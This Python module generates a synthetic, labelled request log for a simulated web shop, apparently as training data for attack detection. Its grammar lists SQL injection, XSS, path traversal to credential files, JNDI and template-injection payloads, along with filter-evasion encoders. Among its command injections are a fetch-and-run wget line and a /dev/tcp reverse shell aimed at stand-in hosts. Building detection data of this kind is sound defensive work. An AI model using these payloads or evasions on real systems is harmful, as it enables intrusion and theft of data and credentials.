"""Raw table: the request log of a simulated web shop, with its customers and attackers.

GRAMMAR defines the texts that they send: one symbol per row, its options separated by tildes;
`$name` refers to another symbol. At first only the first options of a symbol are in use, and the
others follow in order. So the words, pages, programs and attacks at the end of a row appear last.
"""

import json
import random
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from typing import Any
from urllib.parse import quote, quote_plus

import pandas as pd
from pydantic import BaseModel, ConfigDict, Field

RAMP = timedelta(days=42)
"""Time until every option is in use."""

GRAMMAR_TEXT = r"""
page: GET / ~ GET /products/$num ~ GET /products/$num ref=$word ~ GET /search q=$search&page=$num
  ~ GET /static/$file ~ POST /cart item=$num&count=$num ~ POST /login user=$mail&password=$token
  ~ GET /search q=$search ~ POST /support name=$person&message=$prose ~ GET /docs/$word
  ~ JSON /api/reviews item=$num&text=$prose&author=$person ~ GET /orders after=$date&sort=$column
  ~ GET /login next=$url ~ GET /download file=$file&session=$token ~ JSON /api/cart item=$num
  ~ JSON /api/graphql query=$graphql ~ GET /api/v2/products filter=$filter&page=$num
  ~ GET /search q=$search&lang=$lang ~ GET /products/$num utm_source=$word&utm_campaign=$word
search: $thing ~ $colour $thing ~ $thing under $num ~ $thing for $room ~ $thing in $city
  ~ $colour $thing delivery $city ~ gift card $num ~ $colour $thing sale
prose: my $thing came broken, please call $person ~ The $colour $thing is great for the $room.
  ~ When do you deliver to $city? ~ I paid twice for order $num ~ Love it! $num of 10
  ~ can I return the $thing? It is too big for my $room ~ Where is the $thing I ordered on $date?
  ~ $prose $prose ~ the new app does not show order $num ~ is the $colour one back in stock
graphql: query { product(id: $num) { name price } } ~ { search(text: "$search") { id } }
  ~ mutation { review(item: $num, text: "$prose") { id } }
filter: (price<$num) or (sale=true) ~ price>$num and stock>0 ~ price<$num ~ colour eq '$colour'
person: Ana $surname ~ Tom $surname ~ Mei $surname ~ Omar $surname ~ Zoë $surname ~ Olga $surname
surname: Smith ~ O'Brien ~ Novak ~ D'Angelo ~ García ~ Chen ~ N'Diaye ~ Müller ~ Selectman ~ Union
mail: $word$num@example.com ~ $word.$lang@example.org
url: /orders ~ /products/$num ~ https://shop.example.com/cart ~ https://pay.example.com/r?id=$num
  ~ http://localhost:3000/callback
file: logo.png ~ app.$num.js ~ css/site.css ~ manual-$num.pdf ~ ../img/$word.png
  ~ fonts/$word.woff2
token: $b64$b64 ~ $b64$b64$b64== ~ $num-$b64
b64: aGVsbG8 ~ c2Vzc2lvbg ~ Zm9vYmFy ~ ZXhlYw ~ PHNjcmlwdD4 ~ dW5pb24 ~ JyBvciAx ~ eyJhbGciOi
  ~ Li4vZXRj
word: garden ~ news ~ spring ~ bike ~ summer ~ admin ~ select ~ exec ~ alert ~ union ~ partner ~ app
thing: lamp ~ chair ~ sofa ~ desk ~ union jack mug ~ drop leaf table ~ script font poster ~ tent
  ~ grill
colour: red ~ blue ~ oak ~ white ~ black ~ green ~ olive ~ sand
room: kitchen ~ office ~ bedroom ~ hall ~ garden ~ balcony
city: Oslo ~ Lyon ~ Porto ~ Gdańsk ~ Union Station ~ Select City ~ Kyoto ~ Quito
lang: en ~ fr ~ pt ~ pl ~ ja
date: 2026-$num ~ $num days ago
column: date ~ price ~ name ~ id ~ email
drill: $prose ~ $sqli ~ $prose ~ $xss
near_miss: $drill ~ select from union station to $city ~ /etc/hosts or C:\Windows\hosts? $prose
  ~ how to drop table $thing ~ 5 < 6 and 7 > $num
  ~ $thing' and "$colour" or 1=1 size ~ O'$surname -- ask for him ~ cd ../.. && make install
  ~ <b>$thing</b> looks <i>great</i> ~ SELECT name FROM $table WHERE id = $num gives an error, why?
  ~ please wait; cat in the $room | dog outside
  ~ $prose; ls -la shows nothing ~ $num' x $num" $thing
  ~ my page has <script src="/app.js"></script> in it, is that right? ~ $prose ../../readme.md
  ~ docs say $open user.name $close but I see nothing ~ blog: what is ' or 1=1 -- and why it works
  ~ $prose How do I escape $sqli in a form? ~ $prose It prints $xss on my page ~ ${HOME}/$file
  ~ your scanner blocked $command, why? ~ if (a<b) alert(a) ~ union select committee $city
  ~ http://127.0.0.1:8080/$word does not open ~ $prose We saw $jndi in our log ~ price is ${$num}
  ~ Dear $open customer.name $close, $prose ~ price < $num or > $num? $prose
table: users ~ orders ~ accounts ~ payments ~ customers
sqli: $num' or '$num'='$num ~ $num or $num=$num ~ ' union select $column,$column from $table --
  ~ $num; drop table $table ~ $num' and sleep($num) -- ~ admin'-- ~ $thing') or ('a'='a
  ~ $num union all select null,$column from $table# ~ $num' ~ $word' and $num<$num order by $num --
  ~ $num and ascii(substr((select $column from $table),1,1))>$num ~ $prose' or name like '%
  ~ 1' || pg_sleep($num) -- ~ $num' and extractvalue(1,concat(0x7e,version())) --
  ~ $num'; waitfor delay '0:0:5' -- ~ $num' or json_extract(data,'$.id')=$num or '
xss: <script>alert($num)</script> ~ "><script src=//$word.example.net/x.js></script>
  ~ <img src=x onerror=alert($num)> ~ javascript:alert(document.cookie) ~ '-alert($num)-'
  ~ <svg onload=fetch('//$word.example.net')> ~ <a href="javascript:eval(name)">$thing</a>
  ~ $prose <b onmouseover=alert($num)>$thing</b> ~ <iframe srcdoc="<script>top.x()</script>">
  ~ <details open ontoggle=print()> ~ <math><mtext><style><img onerror=eval(name) src>
traversal: ../../../etc/passwd ~ ../../$file ~ ..\..\windows\win.ini ~ /etc/shadow
  ~ ....//....//etc/hosts ~ file:///etc/passwd ~ ../../.env
  ~ $file/../../.git/config ~ ../../../proc/self/environ
  ~ php://filter/convert.base64-encode/resource=$word ~ ../../.aws/credentials
command: ; cat /etc/passwd ~ | id ~ $(whoami) ~ && ping -c 5 $word.example.net ~ `uname -a`
  ~ ; ls -la ~ $num; wget http://$word.example.net/x.sh -O- | sh ~ || sleep $num ~ & dir c:\
  ~ ; bash -i >& /dev/tcp/203.0.113.$num/443 0>&1 ~ $num|nslookup $word.example.net ~ ;$IFS id
jndi: ${jndi:ldap://$word.example.net/a} ~ ${jndi:dns://$word.example.net}
  ~ ${jndi:rmi://203.0.113.9/x} ~ ${${lower:j}ndi:ldap://$word.example.net} ~ ${${::-j}${::-n}di:ldap://$word.example.net}
template: $open$num*$num$close ~ ${$num*$num} ~ #{$num*$num} ~ <%= $num*$num %>
  ~ $open config.items() $close ~ $open self.__init__.__globals__ $close ~ ${T(java.lang.Runtime)}
kind: sqli ~ xss ~ traversal ~ command ~ sqli ~ xss ~ jndi ~ template ~ sqli
browser: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/1$num.0 Safari/537.36
  ~ Mozilla/5.0 (X11; Linux x86_64; rv:1$num.0) Gecko/20100101 Firefox/1$num.0
  ~ Mozilla/5.0 (Macintosh; Intel Mac OS X 14_$num) Version/17.0 Safari/605.1.15
  ~ Mozilla/5.0 (iPhone; CPU iPhone OS 17_$num like Mac OS X) Mobile/15E148
  ~ ShopApp/1.$num (Android)
tool: curl/8.$num.0 ~ python-requests/2.$num ~ Go-http-client/1.1 ~ sqlmap/1.8 ~ Wget/1.$num
  ~ axios/1.$num
gap: /**/ ~ ${IFS} ~ %09 ~ /*$word*/ ~ %0a
"""
SYMBOLS = re.findall(r"^(\w+): (.*(?:\n  .*)*)", GRAMMAR_TEXT, re.MULTILINE)
# Jinja renders this file, so it must not contain two adjacent braces.
GRAMMAR = {name: re.split(r"\s+~ ", row) for name, row in SYMBOLS} | {
    "open": ["{" * 2],
    "close": ["}" * 2],
}
ATTACKS = {*GRAMMAR["kind"]}
FREE = r"\b(q|query|name|author|message|text)="
"""Matches the fields that contain free text."""


class Params(BaseModel):
    """The section `data` of params.yaml: first and last day (UTC), and requests per day."""

    model_config = ConfigDict(extra="forbid")

    since: date
    until: date
    requests_per_day: int = Field(ge=1)
    seed: int


def load(params: Params) -> dict[str, pd.DataFrame]:
    """Return the log: requests, the status and time of their answers, and an analyst's label.

    Texts are as they came over the wire; `milliseconds` is the time until the answer.
    """
    shop, rows, first = Shop(params.seed), list[dict[str, Any]](), _midnight(params.since)
    for day in range((params.until - params.since).days + 1):
        shop.age = min(1.0, timedelta(day) / RAMP)
        total = params.requests_per_day * (day + 1)
        while len(rows) < total:
            rows += shop.session(first + timedelta(days=day))
    table = pd.DataFrame(rows)
    table["event_timestamp"] = pd.to_datetime(table["event_timestamp"], utc=True).astype(
        "datetime64[ns, UTC]"
    )
    table = table[table["event_timestamp"] < _midnight(params.until) + timedelta(days=1)]
    return {"requests": table.sort_values("event_timestamp", kind="stable", ignore_index=True)}


class Shop:
    """Random sessions of the shop's clients; `age` (0 to 1) decides which options are in use."""

    def __init__(self, seed: int) -> None:
        """Start at age 0; the same seed gives the same sessions."""
        self.chance, self.age = random.Random(seed), 0.0

    def session(self, day: datetime) -> Iterator[dict[str, Any]]:
        """Yield the requests of one client, each some time after the last."""
        chance = self.chance
        hostile = chance.random() < 0.05 + 0.03 * self.age
        burst = chance.randrange(3, 12) if chance.random() < 0.5 else 1
        when = day + timedelta(hours=24 * chance.betavariate(2, 2))
        client, agent = self.client(hostile), self.agent(hostile)
        attack = self.option("kind")
        for _ in range(burst if hostile else chance.randrange(1, 10)):
            when += timedelta(milliseconds=chance.randrange(50, 2_000 if hostile else 90_000))
            odds = (0.8, 0.85) if hostile else (0.0, 0.06)
            draw = chance.random()
            kind = attack if draw < odds[0] else "near_miss" if draw < odds[1] else "benign"
            yield {
                "event_timestamp": when,
                "client": client,
                **self.request(kind, agent),
                "status": self.status(kind in ATTACKS),
                "milliseconds": chance.randrange(5, 400),
            }

    def request(self, kind: str, agent: str) -> dict[str, str]:
        """Return a request for a page; unless it is benign, it contains a text of its kind."""
        method, path, values = self.page(
            FREE if kind == "near_miss" else "=" if kind in ATTACKS else ""
        )
        # Browsers encode their requests; other programs may not.
        evasion, encode = "none", _encode
        if kind in ATTACKS:
            text, evasion = self.evade(self.fill(f"${kind}"))
            encode = _encode if self.chance.random() < 0.7 else _as_it_is
            place = self.chance.random()
            if kind == "traversal" and place < 0.4:
                method, path, values = "GET", f"/static/{text}", {}
            elif kind == "jndi" and place < 0.5:
                agent = text
            else:
                values[self.chance.choice([*values])] = text
        elif kind == "near_miss":
            name = self.chance.choice([name for name in values if re.match(FREE, f"{name}=")])
            values[name] = self.fill("$near_miss")
        form = "&".join(f"{name}={encode(value)}" for name, value in values.items())
        sent = json.dumps(values, ensure_ascii=False) if method == "JSON" else form
        return {
            "method": "GET" if method == "GET" else "POST",
            "path": path,
            "query": sent if method == "GET" else "",
            "body": "" if method == "GET" else sent,
            "user_agent": agent,
            "kind": kind,
            "evasion": evasion,
        }

    def page(self, pattern: str) -> tuple[str, str, dict[str, str]]:
        """Return method, path and values of a page whose text matches the regular expression."""
        page = self.option("page")
        while not re.search(pattern, page):
            page = self.option("page")
        method, path, *form = page.split(" ", 2)
        fields = (field.split("=", 1) for field in "".join(form).split("&") if field)
        return method, self.fill(path), {name: self.fill(text) for name, text in fields}

    def evade(self, text: str) -> tuple[str, str]:
        """Hide an attack from literal matching; return the text and the name of the evasion."""
        evasion = self.chance.choice(["none", "none", "encoding", "case", "comments"])
        if evasion == "encoding":
            hidden = self.chance.choice([_twice, _all_hex, _wide, _overlong])(text)
        elif evasion == "case":
            hidden = "".join(c.upper() if self.chance.random() < 0.5 else c.lower() for c in text)
        else:
            hidden = text.replace(" ", self.fill("$gap")) if evasion == "comments" else text
        return hidden, evasion if hidden != text else "none"

    def client(self, hostile: bool) -> str:
        """Return an address: a customer's or, for most attackers, one of an attacking network."""
        if hostile and self.chance.random() < 0.6:
            return f"203.0.113.{self.chance.randrange(1, 255)}"
        number = int(4_000 * self.chance.random() ** 2)
        return f"100.64.{number // 250}.{number % 250 + 1}"

    def agent(self, hostile: bool) -> str:
        """Return a user agent: some customers use tools, and most attackers pose as browsers."""
        return self.fill(
            "$tool" if self.chance.random() < (0.3 if hostile else 0.04) else "$browser"
        )

    def status(self, hostile: bool) -> int:
        """Return the status of the answer; attacks fail more often."""
        weights = (45, 20, 20, 15) if hostile else (94, 1, 4, 1)
        return self.chance.choices((200, 403, 404, 500), weights)[0]

    def option(self, symbol: str) -> str:
        """Return one of the options of a symbol that are in use at this age."""
        options = GRAMMAR[symbol]
        used = round(len(options) * (0.6 + 0.4 * self.age))
        return options[self.chance.randrange(max(1, used))]

    def fill(self, text: str) -> str:
        """Replace each `$name` with one of its options, recursively."""
        return re.sub(r"\$([a-z][a-z0-9_]*)", self._symbol, text)

    def _symbol(self, match: re.Match[str]) -> str:
        if match[1] == "num":
            return str(self.chance.randrange(1, 1_000))
        return self.fill(self.option(match[1]))


def _midnight(day: date) -> datetime:
    return datetime(day.year, day.month, day.day, tzinfo=UTC)


def _encode(text: str) -> str:
    return quote_plus(text)


def _as_it_is(text: str) -> str:
    return text


def _twice(text: str) -> str:
    return quote(quote(text))


def _all_hex(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def _wide(text: str) -> str:
    """Use full-width characters, which NFKC maps back."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _overlong(text: str) -> str:
    """Use invalid UTF-8 bytes that careless decoders read as `.` and `/`."""
    return text.replace(".", "%c0%ae").replace("/", "%c0%af")
